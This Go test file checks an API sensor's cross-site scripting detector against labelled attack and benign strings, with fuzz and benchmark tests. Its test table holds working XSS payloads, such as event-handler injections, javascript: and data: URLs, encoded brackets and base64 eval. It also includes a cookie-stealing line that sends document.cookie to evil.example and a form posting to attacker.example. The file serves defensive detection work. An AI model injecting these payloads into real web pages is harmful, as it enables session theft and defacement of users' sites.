package injection

import (
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/apisensor/sensor/decoders"
	"github.com/apisensor/sensor/pipeline/detect/literals"
)

// TestXSSCases covers the script, markup and encoding forms xssExtra finds
// beyond libinjection (dialog probes, timers, DOM writes, unknown event
// handlers, data: and CSS script URLs, form markup, 7-bit and overlong
// spellings of < and >), through the whole detector in a query parameter
// and a JSON field, and text close to them that is no attack.
func TestXSSCases(t *testing.T) {
	tests := []struct {
		v    string
		want bool
	}{
		// Rich text that runs nothing: styled spans, images, an embedded
		// video, an SVG icon, a picture as a data: URL (inertMarkup).
		{`<span style="color:#ff0000">red</span> text`, false},
		{`<img src="x.png" width="100" style="float:left;margin:0 10px">`, false},
		{`<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" allowfullscreen></iframe>`, false},
		{`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7z"/></svg>`, false},
		{`<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">`, false},
		{`<table role="presentation" style="width:100%"><tr><td>Hi,</td></tr></table>`, false},
		// The same tags with script, or cut short, or around raw text
		// that holds a tag.
		{`<span style="x:expression(alert(1))">a</span>`, true},
		{`<span style="background:url(jav&#x61;script:alert(1))">a</span>`, true},
		{`<img src="x.png" style="a" onerror=alert(1)>`, true},
		{`<img/src=x/onerror=alert(1)>`, true},
		{`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`, true},
		{`<iframe src="java	script:alert(1)"></iframe>`, true},
		{`<iframe src="data:text/html,<script>alert(1)</script>"></iframe>`, true},
		{`<img src="data:image/svg+xml,<svg onload=alert(1)>">`, true},
		{`<svg><animate attributeName=href values=javascript:alert(1) /></svg>`, true},
		{`<svg><title><img src=x onerror=alert(1)></title></svg>`, true},
		{`<iframe><img src=x onerror=alert(1)></iframe>`, true},
		{`<b>x</b><img src=x onerror=alert(1)`, true},
		{`<div><!--[if IE]><script>alert(1)</script><![endif]--></div>`, true},
		{`<a href="  JAVASCRIPT:alert(1)">x</a>`, true},
		{`<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><rect/></a></svg>`, true},
		// Breaking out of a script's string with no alert(1) to find,
		// and script in an SVG data: URL; a quoted word, a code comment.
		{"';[1].map(alert)//", true},
		{"';onerror=alert;throw 1//", true},
		{"\\\";self[atob('YWxlcnQ=')](1)//", true},
		{"';new Image().src='//evil.example/?c='+document.cookie;//", true},
		{"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", true},
		{"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxwYXRoIGQ9Ik0wIDBoMjR2MjRIMHoiLz48L3N2Zz4=", false},
		{"'hello', he said; // ok", false},
		{"\"; x = 1; // set x", false},
		// What the review of inertMarkup found: attributes outside a
		// tag, tags in an attribute value, framework directives, split
		// CSS expressions, form feeds as separators.
		{"\"\fonfocus=print()\fautofocus\fx=\"<b>", true},
		{"<b title=\"</textarea><img src=x\fonerror=print()>\">x</b>", true},
		{"<svg x-data x-init=\"print()\"><rect width=9 height=9 /></svg>", true},
		{"<div style=\"width:expr/**/ession(print())\">", true},
		{"data:image/svg+xml;charset=utf-8;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", true},
		{"data:image/svg+xml;base64,PHN2ZyBvbm xvYWQ9YWxlcnQoMSk+", true},
		{"javascript: name", true},
		{"I'm reading JavaScript: The Good Parts.", false},
		{"Skill javascript: expert", false},
		{`<span style="font-family:'ＭＳ ゴシック'">x</span>`, false},
		{`<div style="width:ｅｘｐｒｅｓｓｉｏｎ(print())">x</div>`, true},
		{"JavaScript: opener.name", true},
		// Book titles and sentences that name the scheme; the scheme
		// obfuscated and left empty is a probe.
		{"JavaScript: The Good Parts", false},
		{"javascript:// comment trick explained in the book", false},
		{"javascript: alert(1)", true},
		{"ja&tab;vascript: ", true},
		// Dialog probes with no argument or a string, after a break out.
		{"';confirm()//", true},
		{"prompt('xss')", true},
		{"\"+alert()+\"", true},
		// Timers and eval of decoded base64.
		{"setInterval(payload, 50)", true},
		{"setTimeout`x`;setTimeout('location=name', 9)", true},
		{"eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))", true},
		// Writes through a selected element.
		{`document.getElementById("msg").innerHTML="<b>owned</b>"`, true},
		{"document.querySelectorAll('h1')[0].textContent='defaced'", true},
		// Event handlers the table does not list, where markup goes.
		{"\" onbeforetoggle=", true},
		{"  onanimationiteration= ", true},
		{"<x/oncontentvisibilityautostatechange=", true},
		// Script URLs in CSS and markup in data: URLs.
		{`div{background:url("javascript`, true},
		{"data:image/svg+xml,<svg>", true},
		{"data: ;charset=utf-8, <p>", true},
		// Form markup and IE's component import.
		{`<input name=q pattern=".*(a+)+$">`, true},
		{`<form action="//attacker.example/collect">`, true},
		{`<?import namespace="t" implementation="#default#time2">`, true},
		// < and > spelled with the high bit set, in Latin-1, or overlong.
		{`\xbcscript\xbealert(1)\xbc/script\xbe`, true},
		{"\u00bcscript\u00bealert(1)\u00bc/script\u00be", true},
		{"%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE", true},

		{"the confirm() dialog blocks the page", false},
		{"Call alert() only in tests", false},
		{"setTimeout(fn, 0) defers the callback", false},
		{"use setInterval to poll every 5s", false},
		{"window.location is read-only in a sandboxed iframe", false},
		{"document.querySelector('p').textContent is safe to set", false},
		{`pass "onlyActive=true" to filter`, false},
		{"set onlyActive=true and onSale=false", false},
		{"online=yes, onboarding=done", false},
		{"¼ cup sugar, ¾ cup flour", false},
		{"¼tsp salt ¾tsp pepper", false},
		{`<input type="text" name="q">`, false},
		{`<form action="/search" method="get">`, false},
		{`Heuristics to prevent "javascript:..." injection`, false},
		{`clicking on a "javascript:" link`, false},
		{"data: 3 rows, <none> missing", false},
		{"url(images/bg.png)", false},
		{"import implementation details later", false},
		{"atob() and btoa() convert base64", false},
	}
	for _, tt := range tests {
		t.Run(tt.v, func(t *testing.T) {
			x := request("/api/v1/search?q="+url.QueryEscape(tt.v),
				decoders.Param{Loc: decoders.LocJSON, Name: "body", Value: tt.v})
			out := inspect(t, x)
			got := false
			for _, a := range out {
				if a.RuleId == "xss" {
					got = true
				}
			}
			if got != tt.want {
				t.Errorf("xss on %q = %v, want %v: %v", tt.v, got, tt.want, out)
			}
		})
	}
}

// TestSevenBit covers the folding of high-bit, Latin-1 and overlong forms.
func TestSevenBit(t *testing.T) {
	tests := []struct {
		in, want string
		ok       bool
	}{
		{"\xbcb\xbe", "<b>", true},
		{"\u00bcb\u00be", "<b>", true},
		{"\xc0\xbcb\xc0\xbe", "<b>", true},
		{"\u043c\xbc", "\u043c<", true},
		{"plain <b>", "", false},
	}
	for _, tt := range tests {
		got, ok := sevenBit(tt.in)
		if got != tt.want || ok != tt.ok {
			t.Errorf("sevenBit(%q) = %q, %v; want %q, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}

// TestXSSScriptNeeds checks the gate in front of xssScript: every value of
// the evaluation corpus (attacks and benign, lower-cased, with comments
// stripped as xssExtra does) that the expression matches holds one of
// xssScriptNeeds. FuzzXSSExtra checks the same on any input.
func TestXSSScriptNeeds(t *testing.T) {
	matched := 0
	for _, e := range evalCorpus(t) {
		for _, l := range []string{strings.ToLower(e.Payload), stripComments(strings.ToLower(e.Payload))} {
			if !xssScript.MatchString(l) {
				continue
			}
			matched++
			if !anyOf(l, xssScriptNeeds) {
				t.Errorf("%s: xssScript matches %q, which holds none of xssScriptNeeds", e.Source, l)
			}
		}
	}
	if matched < 100 {
		t.Errorf("xssScript matched only %d corpus values: is the corpus the evaluation's?", matched)
	}
}

// FuzzXSSExtra runs xssExtra and the 7-bit folding on any input: they must
// not panic, and the folding keeps the length or shrinks it.
func FuzzXSSExtra(f *testing.F) {
	for _, s := range []string{"\" onx=", "  onabc= ", "<x/onfoo=", "/on=", "\xbcscript\xbe", "\xc0\xbc", "\xc0", "¼¾", "';alert()//", "data:,<x>", "<a on", "x<a onab=1 >on", " onab="} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		_ = xssExtra(s, 4096)
		if l := strings.ToLower(s); xssScript.MatchString(l) && !anyOf(l, xssScriptNeeds) {
			t.Errorf("xssScript matches %q, which holds none of xssScriptNeeds", s)
		}
		if out, ok := sevenBit(s); ok && len(out) > len(s) {
			t.Errorf("sevenBit(%q) grew to %q", s, out)
		}
	})
}

// BenchmarkXSSExtraWorstCase runs xssExtra on 64 KB values made of
// repeated attribute-like text: a value costs its length, not its square.
func BenchmarkXSSExtraWorstCase(b *testing.B) {
	for _, u := range []string{"a onabc=1 ", "<a onabc=1 >", "\"on", "<", "data:,", "alert("} {
		v := strings.Repeat(u, (64<<10)/len(u))
		b.Run(u, func(b *testing.B) {
			b.SetBytes(int64(len(v)))
			b.ReportAllocs()
			for b.Loop() {
				xssExtra(v, len(v))
			}
		})
	}
}

// anyOf reports whether l holds one of subs.
func anyOf(l string, subs []string) bool {
	for _, h := range subs {
		if strings.Contains(l, h) {
			return true
		}
	}
	return false
}

// wholeScriptMatch is xssScriptMatch as it was before the expression was
// split into parts: the alternation of them all, its first four matches.
func wholeScriptMatch(l string) string {
	for _, m := range xssScript.FindAllStringIndex(l, 4) {
		if !schemeMention(l, m[0], m[1]) {
			return l[m[0]:m[1]]
		}
	}
	return ""
}

// TestXSSScriptParts: the parts, each run only on a value holding one of
// its literals, find script in every evaluation corpus value the whole
// expression found it in, and in no benign one it did not.
func TestXSSScriptParts(t *testing.T) {
	n := 0
	for _, e := range evalCorpus(t) {
		for _, l := range []string{strings.ToLower(e.Payload), stripComments(strings.ToLower(e.Payload))} {
			whole, parts := wholeScriptMatch(l) != "", xssScriptMatch(l, literals.Find(xssHints, l)) != ""
			if whole != parts {
				t.Errorf("%s %q: the whole expression %v, its parts %v", e.Source, l, whole, parts)
			}
			if whole {
				n++
			}
		}
	}
	if n < 100 {
		t.Errorf("only %d corpus values hold script: is the corpus the evaluation's?", n)
	}
}

// FuzzXSSScriptParts: what the whole expression finds, the parts find.
func FuzzXSSScriptParts(f *testing.F) {
	for _, s := range []string{"window['alert'](1)", "x\";settimeout(name,1)//", "javascript:alert(1)", "(![]+[])", "data:,<svg onload=1>", "a `b` alert`1`", "' formaction=//e", "document.cookie",
		// A document part's mention hiding four of the script part's.
		"document.queryselector( javascript:... javascript:... javascript:... javascript:...).innerhtml=:... javascript:x",
		"document.queryselector(vbscript:.. vbscript:.. vbscript:.. vbscript:.. vbscript:.. vbscript:.. vbscript:.. vbscript:..).innerhtml=:... javascript:x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		l := strings.ToLower(s)
		if wholeScriptMatch(l) != "" && xssScriptMatch(l, literals.Find(xssHints, l)) == "" {
			t.Errorf("%q: the whole expression finds script, its parts do not", l)
		}
		for _, part := range xssScriptParts {
			if part.re.MatchString(l) && !anyOf(l, part.needs) {
				t.Errorf("%q: a part matches without one of its literals %q", l, part.needs)
			}
		}
	})
}

// xssScript is the alternation of xssScriptParts, and xssScriptNeeds all
// their literals: what the tests hold the parts to (every match holds one
// of the literals; the parts find what the whole finds).
var (
	xssScript = func() *regexp.Regexp {
		res := make([]string, len(xssScriptParts))
		for k, p := range xssScriptParts {
			res[k] = p.re.String()
		}
		return regexp.MustCompile(strings.Join(res, "|"))
	}()
	xssScriptNeeds = slices.Concat(xssPartNeeds()...)
)
